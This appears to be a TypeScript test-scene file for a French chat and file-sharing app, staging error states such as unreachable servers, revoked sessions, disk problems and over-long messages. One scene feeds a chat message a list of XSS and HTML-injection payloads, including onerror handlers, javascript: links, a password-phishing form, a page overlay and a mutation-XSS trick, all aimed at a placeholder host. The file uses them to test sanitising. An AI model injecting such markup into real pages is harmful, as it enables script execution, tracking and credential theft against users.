import type { ContractError } from '../../preload/contract/channel.ts';
import type { Problem, ProblemCode } from '../../preload/contract/files.ts';
import chat from '../../renderer/i18n/fr/chat.json';
import common from '../../renderer/i18n/fr/common.json';
import signin from '../../renderer/i18n/fr/signin.json';
import { press, type } from './hands.ts';
import type { After, Scene } from './scenes.ts';
import { found } from './world/accounts.ts';
import { budgetTransfer, calmOverview } from './world/files.ts';
import { ago, karim } from './world/people.ts';
import { list, RUGBY } from './world/salons.ts';
import { item, rugby, text } from './world/timeline.ts';

const openRugby: After = (_, { navigation }) => navigation.openSalon(RUGBY);
const openFolder: After = (_, { navigation }) => {
  navigation.openSalon(RUGBY);
  navigation.showSide('folder');
};

/** Somebody new gives an address whose chat server is no good. */
function wrongChat(name: string, code: ContractError['code']): Scene {
  const host = 'discussion.metropole.example';
  const error = {
    code,
    messageKey: `errors:${code}.chat`,
    details: { host },
    retryable: true,
  } as ContractError;
  return {
    name,
    before: (stage) => {
      stage.world.account = {
        id: null,
        stores: '',
        chat: { status: 'none' },
        files: { status: 'none' },
        secrets: 'system',
      };
      stage.world.discovery = { ...found, chat: { found: false, error } };
    },
    after: async () => {
      await type(signin.address.label, 'n.benali@metropole.example');
      await press(common.continue);
    },
  };
}

/** The open salon's folder has these problems. */
function inFolder(name: string, problems: Readonly<Record<string, ProblemCode>>): Scene {
  const rows = Object.entries(problems).map(
    ([path, code]): Problem => ({ path, code, retryAt: ago(-2), detail: code }),
  );
  return {
    name,
    before: (stage) => {
      const folders = calmOverview.folders.map((folder) =>
        folder.salonId === RUGBY ? { ...folder, problems: rows } : folder,
      );
      stage.world.overview = { ...calmOverview, folders };
    },
    after: openFolder,
  };
}

/** Markup that would load, run, ask or lie over something, if any of it reached the page. */
const HOSTILE = `<p>Bonjour</p><img src="https://spy.example/pixel.png" onerror="document.title='taken'">
<script>document.title = 'taken'</script><style>body { display: none }</style>
<svg onload="document.title='taken'"><use href="https://spy.example/x.svg#x"/></svg>
<iframe src="https://spy.example/"></iframe><form action="https://spy.example/"><input name="password"><button>OK</button></form>
<div style="position:fixed;inset:0;background:url(https://spy.example/veil.png)" class="veil" id="root">voile</div>
<a href="javascript:document.title='taken'">piège</a> <a href="https://exemple.fr/" style="color:white">lien</a>
<math><mtext><table><mglyph><style><img src=x onerror="document.title='taken'"></style></mglyph></table></mtext></math>
<video src="https://spy.example/v.mp4" autoplay></video><object data="https://spy.example/o"></object><base href="https://spy.example/">`;

/** What goes wrong from outside, each said in plain words. The table of all is in docs/bad-input.md. */
export const badInputScenes: readonly Scene[] = [
  wrongChat('bad-no-server', 'unreachable'),
  wrongChat('bad-html', 'not-a-server'),
  wrongChat('bad-certificate', 'certificate'),
  {
    name: 'bad-chat-revoked',
    before: (stage) => {
      stage.chat.world.list = { ...list, connection: 'signed-out' };
    },
    after: openRugby,
  },
  {
    name: 'bad-files-revoked',
    before: (stage) => {
      const { files } = stage.world.account;
      if (files.status !== 'none')
        stage.world.account = { ...stage.world.account, files: { ...files, status: 'expired' } };
      const folders = calmOverview.folders.map((folder) => ({
        ...folder,
        activity: { state: 'signed-out' as const },
      }));
      stage.world.overview = { ...calmOverview, folders };
    },
    after: openRugby,
  },
  inFolder('bad-disk', {
    'Captation 4K.mp4': 'disk-full',
    'Plans/Parvis.jpg': 'read-only-here',
    'Convention.docx': 'read-only-there',
  }),
  inFolder('bad-files', {
    'Rapport final.docx': 'file-in-use',
    'Plans/coupe 1:50.dwg': 'name-not-allowed',
    'Parvis.jpg': 'disk-error',
  }),
  {
    name: 'bad-drop',
    before: (stage) => {
      stage.world.transfers = [{ ...budgetTransfer, step: { step: 'failed', problem: 'disk-full' } }];
    },
    after: openRugby,
  },
  {
    name: 'bad-markup',
    before: (stage) => {
      const hostile = text('Bonjour', HOSTILE);
      stage.chat.world.timelines.set(RUGBY, { ...rugby, items: [item(karim, ago(3), hostile)] });
    },
    after: openRugby,
  },
  {
    name: 'bad-long-message',
    before: (stage) => {
      const long = { ...text('Compte rendu. '.repeat(1400).slice(0, 20_000)), cut: true };
      stage.chat.world.timelines.set(RUGBY, { ...rugby, items: [item(karim, ago(3), long)] });
    },
    after: async (_, { navigation }) => {
      navigation.openSalon(RUGBY);
      await press(chat.unfold);
    },
  },
];
